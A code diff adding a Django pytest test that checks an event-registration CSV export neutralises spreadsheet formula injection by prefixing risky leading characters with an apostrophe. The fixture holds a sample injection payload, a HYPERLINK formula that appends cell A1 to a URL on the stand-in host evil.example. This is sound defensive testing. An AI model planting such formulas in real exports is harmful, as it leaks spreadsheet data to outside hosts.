@@ -187,6 +187,22 @@ def test_editors_download_an_events_registrations_as_csv(editor_client, registra
     assert len(rows[0]["Registered"]) == len("2030-06-04 16:00")  # local time, to the minute
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_the_csv_never_hands_a_spreadsheet_a_formula(editor_client, registrations, start):
+    meeting, _national = registrations
+    EventRegistration.objects.filter(name="Anna Nováková").update(
+        name=start + 'HYPERLINK("http://evil.example/?"&A1,"Click")',
+        organisation="=1+1",
+    )
+    url = reverse("event_registrations:index") + f"?event={meeting.pk}&export=csv"
+    text = b"".join(editor_client.get(url).streaming_content).decode()
+    rows = {row["E-mail"]: row for row in csv.DictReader(io.StringIO(text))}
+    anna = rows["anna@example.org"]
+    assert anna["Name"] == "'" + start + 'HYPERLINK("http://evil.example/?"&A1,"Click")'
+    assert anna["Organisation"] == "'=1+1"
+    assert rows["ilse@example.org"]["Name"] == "Ilse Huber"  # ordinary cells as they are
+
+
 def test_country_editors_see_only_their_own_events_registrations(
     client, django_user_model, registrations, slovakia, germany
 ):
